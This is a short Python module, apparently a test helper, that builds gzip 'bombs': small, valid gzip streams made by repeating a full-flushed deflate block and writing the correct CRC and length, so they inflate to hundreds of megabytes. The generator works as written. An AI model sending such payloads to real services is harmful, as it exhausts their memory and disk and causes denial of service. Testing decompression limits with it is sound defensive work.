"""Gzip bombs: a few hundred KB of gzip that inflate to hundreds of MB or more.

Compressing a gigabyte takes seconds of CPU; the same stream is built in milliseconds from one compressed
megabyte.  Each megabyte of filler is one deflate block ended by a full flush (no reference reaches back
past it), so the bytes of one such block can be repeated as often as needed; the trailer carries the real
CRC-32 and length, so the result is an ordinary, valid gzip member (``gzip.decompress`` inflates it whole).
"""

from __future__ import annotations

import struct
import zlib

_MB = 1 << 20


def gzip_bomb(head: bytes, filler: bytes, megabytes: int, tail: bytes) -> bytes:
    """``head + filler * (megabytes MB) + tail``, gzip-compressed (``filler`` a single byte, e.g. ``b" "``)."""
    assert len(filler) == 1, "one repeated byte: every megabyte then compresses to the same block"
    chunk = filler * _MB
    raw = -zlib.MAX_WBITS  # raw deflate: the gzip header and trailer are written here
    start = zlib.compressobj(9, zlib.DEFLATED, raw)
    first = start.compress(head) + start.flush(zlib.Z_FULL_FLUSH)
    middle = zlib.compressobj(9, zlib.DEFLATED, raw)
    block = middle.compress(chunk) + middle.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, raw)
    last = end.compress(tail) + end.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + megabytes * _MB + len(tail)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, mtime 0, best compression, OS unknown
    return header + first + block * megabytes + last + struct.pack("<II", crc, size & 0xFFFFFFFF)
